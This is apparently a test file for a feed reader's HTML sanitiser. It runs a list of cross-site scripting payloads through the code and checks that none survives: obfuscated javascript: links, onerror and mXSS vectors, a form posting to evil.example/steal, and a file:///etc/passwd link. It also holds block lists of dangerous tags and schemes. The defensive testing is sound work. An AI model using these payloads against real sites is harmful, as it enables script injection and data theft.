"""SECURITY.md H1–H4: the second sanitiser after feedparser, iframes, text fields, links."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import shared_path
from tidings.common.sanitise import html_to_text, safe_link, sanitise_html
from tidings.ingestion.feeds import FeedParseError, parse_feed

FEED_URL = "https://news.example.com/feed.xml"
H1_PAYLOADS = {
    "tab-in-scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "newline-in-scheme": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "cr-in-scheme": '<a href="jav&#13;ascript:alert(1)">x</a>',
    "decimal-j": '<a href="&#106;avascript:alert(1)">x</a>',
    "colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "hex-encoded": '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;'
    '&#x3A;&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;">x</a>',
    "mixed-case-space": '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript://youtube.com/%0Aalert(1)"></iframe>',
    "button-formaction": '<form><button formaction="javascript:alert(1)">go</button></form>',
    "form-action": '<form action="https://evil.example/steal"><input name=p></form>',
    "style-url": '<p style="background:url(javascript:alert(1))">x</p>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/"><a href="/x">x</a>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-src": '<embed src="javascript:alert(1)">',
    "mxss-math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "srcset": '<img srcset="http:a<script>alert(1)</script>">',
    "ping": '<a href="https://n.example/" ping="https://evil.example/track">x</a>',
    "data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "script": "<script>alert(1)</script><p>after</p>",
    "style-tag": "<style>body{background:url(javascript:alert(1))}</style><p>x</p>",
}
BANNED_MARKUP = re.compile(
    r"<(form|base|meta|object|embed|script|style|svg|math)\b|srcdoc|formaction|ping=",
    re.IGNORECASE,
)
BANNED_TAGS = {"form", "base", "meta", "object", "embed", "script", "style", "svg", "math"}
BANNED_ATTRIBUTES = {"srcdoc", "formaction", "ping", "style", "srcset", "action"}
BANNED_SCHEMES = ("javascript:", "data:text/html", "vbscript:")


class _Attributes(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [(tag, name, value or "") for name, value in attrs] or [(tag, "", "")]


def attributes_of(html: str) -> list[tuple[str, str, str]]:
    parser = _Attributes()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_harmless(html: str, *, text_may_mention_schemes: bool = False) -> None:
    """The H1 list: no dangerous element, attribute or URL scheme survives. (Random input
    may put "javascript:" in plain text, which is harmless; the H1 payloads do not.)"""
    for tag, name, value in attributes_of(html):
        assert tag not in BANNED_TAGS, tag
        assert not name.startswith("on") and name not in BANNED_ATTRIBUTES, (tag, name)
        squashed = re.sub(r"[\x00-\x20]", "", value).lower()
        assert not squashed.startswith(BANNED_SCHEMES), (tag, name, value)
    lowered = html.lower()
    if not text_may_mention_schemes:
        assert not BANNED_MARKUP.search(html), html
        assert not any(scheme in lowered for scheme in BANNED_SCHEMES), html


def rss_with_description(html: str) -> bytes:
    return (
        '<rss version="2.0"><channel><title>t</title><item><guid>g</guid><title>t</title>'
        f"<description><![CDATA[{html}]]></description></item></channel></rss>"
    ).encode()


@pytest.mark.parametrize("payload", list(H1_PAYLOADS.values()), ids=list(H1_PAYLOADS))
def test_h1_payload_after_feedparser_and_our_sanitiser(payload: str) -> None:
    (entry,) = parse_feed(body=rss_with_description(payload), url=FEED_URL).entries
    assert_harmless(entry.body_html)


@pytest.mark.parametrize("payload", list(H1_PAYLOADS.values()), ids=list(H1_PAYLOADS))
def test_h1_payload_through_our_sanitiser_alone(payload: str) -> None:
    """The sanitiser does not lean on feedparser: raw payloads are made harmless too."""
    assert_harmless(sanitise_html(payload, base_url=FEED_URL))
    assert_harmless(sanitise_html(payload))


def test_safe_markup_survives() -> None:
    html = '<p>A <a href="/x">link</a>, <em>stress</em> and <img src="pic.jpg" alt="A pic"></p>'
    assert sanitise_html(html, base_url="https://n.example/news/") == (
        '<p>A <a href="https://n.example/x" rel="noopener noreferrer nofollow">link</a>, '
        '<em>stress</em> and <img src="https://n.example/news/pic.jpg" alt="A pic"></p>'
    )


# -- H2 -------------------------------------------------------------------------------------


def test_iframe_raw_text_content_is_emptied() -> None:
    """Ammonia passes an iframe's raw-text content through unescaped (found by hypothesis)."""
    html = sanitise_html(
        '<iframe src="https://www.youtube.com/embed/x"><img src=x onerror=alert(1)></iframe>'
        "<iframe><img src=x onerror=alert(1)></iframe><p>after</p>"
    )
    assert "onerror" not in html and "<img" not in html
    assert html.count("<iframe") == 1 and html.endswith("</iframe><p>after</p>")


def test_h2_allowed_embed_is_kept_sandboxed() -> None:
    html = sanitise_html('<iframe src="https://www.youtube.com/embed/abc" onload="x()"></iframe>')
    assert html.startswith('<iframe src="https://www.youtube.com/embed/abc"')
    assert 'sandbox="allow-scripts allow-same-origin allow-popups allow-presentation"' in html
    assert "onload" not in html


@pytest.mark.parametrize(
    "src",
    [
        "javascript://www.youtube.com/%0Aalert(1)",
        "ftp://www.youtube.com/embed/abc",
        "data:text/html,<script>alert(1)</script>",
        "//www.youtube.com/embed/abc",
        "https://evil.example/embed/abc",
        "https://www.youtube.com.evil.example/embed",
        "jav\tascript://www.youtube.com/",
    ],
)
def test_h2_iframe_with_wrong_scheme_or_host_is_removed(src: str) -> None:
    assert "<iframe" not in sanitise_html(f'<p>x</p><iframe src="{src}"></iframe>')


# -- H3 -------------------------------------------------------------------------------------


def test_h3_rss_title_markup_is_literal_text() -> None:
    body = (
        b'<rss version="2.0"><channel><title>&lt;b&gt;Desk&lt;/b&gt;</title><item><guid>g</guid>'
        b"<title>&lt;script&gt;x&lt;/script&gt;</title></item></channel></rss>"
    )
    feed = parse_feed(body=body, url=FEED_URL)
    assert feed.entries[0].title == "<script>x</script>"


def test_h3_json_feed_content_text_is_literal_text() -> None:
    document = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "<i>t</i>",
        "items": [{"id": "1", "title": "<script>x</script>", "content_text": "<tag>"}],
    }
    feed = parse_feed(body=json.dumps(document).encode(), url=FEED_URL)
    (entry,) = feed.entries
    assert (feed.title, entry.title, entry.body_text) == ("<i>t</i>", "<script>x</script>", "<tag>")
    assert entry.body_html == "<p>&lt;tag&gt;</p>"


def test_html_to_text_decodes_entities_and_drops_code() -> None:
    html = "<p>Fish &amp; chips</p><script>var a = '<p>';</script><p>Two&nbsp;lines</p>"
    assert html_to_text(html) == "Fish & chips\nTwo lines"


# -- H4 -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "jav\tascript:alert(1)",
        "data:text/html,x",
        "vbscript:msgbox(1)",
        "//evil.com",
        "/\\evil.com",
        "file:///etc/passwd",
        "feed://n.example/rss",
        "http://[::1",
    ],
)
def test_h4_unsafe_link_values_are_refused(value: str) -> None:
    assert safe_link(value, base=FEED_URL) is None


def test_h4_relative_links_resolve_against_the_base() -> None:
    assert safe_link("../b?x=1", base="https://n.example/a/c/") == "https://n.example/a/b?x=1"
    assert safe_link("HTTPS://N.example/x") == "https://N.example/x"
    assert safe_link("/x") is None  # nothing to resolve against


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80), st.sampled_from([None, FEED_URL, "javascript:x//"]))
def test_safe_link_only_ever_returns_web_urls(value: str, base: str | None) -> None:
    result = safe_link(value, base=base)
    assert result is None or re.match(r"https?://[^/\s]", result)


# -- properties -------------------------------------------------------------------------------

FRAGMENTS = [
    "<p>", "</p>", "<a href='", "javascript:", "'>", "</a>", "<img src=x onerror=", "alert(1)>",
    "<iframe src=\"https://www.youtube.com/embed/x\">", "</iframe>", "<svg onload=x>", "<math>",
    "<style>", "</style>", "<script>", "</script>", "<noscript>", "</noscript>", "<!--", "-->",
    "<table>", "<td>", "<b>", "</i>", "&amp;", "&#106;", "\"", "'", " ", "text", "<form>",
    "<base href=/x>", "<meta http-equiv=refresh>", "<a ping=x>", " onclick=", "=", "<",
    "<xmp>", "<plaintext>", "<noembed>", "<textarea>", "<select>", "<template>", "</iframe",
]  # fmt: skip
html_soup = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=6), max_size=30).map("".join)


@settings(max_examples=400, deadline=None)
@given(html_soup)
def test_sanitise_is_idempotent_and_leaves_no_event_handlers(html: str) -> None:
    once = sanitise_html(html, base_url=FEED_URL)
    assert sanitise_html(once, base_url=FEED_URL) == once
    assert not [name for _tag, name, _value in attributes_of(once) if name.startswith("on")]
    assert_harmless(once, text_may_mention_schemes=True)


# -- feedparser's sanitiser corpus ------------------------------------------------------------


def sanitize_corpus() -> list:
    folder = shared_path("feeds", "feedparser-testcases", "wellformed", "sanitize")
    if not folder.is_dir():
        return [pytest.param(None, marks=pytest.mark.skip(reason=f"{folder} is absent"))]
    return [pytest.param(p, id=p.name) for p in sorted(folder.glob("*.xml"))]


@pytest.mark.parametrize("path", sanitize_corpus())
def test_feedparser_sanitize_corpus_comes_out_harmless(path: Path) -> None:
    try:
        feed = parse_feed(body=path.read_bytes(), url=FEED_URL)
    except FeedParseError:
        return
    for entry in feed.entries:
        assert_harmless(entry.body_html)


def test_html_to_text_survives_unknown_marked_sections() -> None:
    assert html_to_text("<p>a</p><![CDATQ[<p>b</p>]]>") == "a\n<![CDATQ[\nb\n]]>"


@pytest.mark.parametrize("value", ["http://n.example:00:00+00:30/x", "https://n.example:99999999/"])
def test_h4_links_with_impossible_ports_are_refused(value: str) -> None:
    """urlsplit().port raises ValueError on these (found by fuzzing parse_feed)."""
    assert safe_link(value) is None


def test_iframe_emptying_is_not_fooled_by_brackets_in_attributes() -> None:
    html = sanitise_html(
        '<iframe src="https://www.youtube.com/embed/x?a=>b" title="t>x">in<img src=x></iframe>'
        "<p>after</p>"
    )
    assert html.endswith("></iframe><p>after</p>") and "<img" not in html
    assert 'src="https://www.youtube.com/embed/x?a=&gt;b"' in html
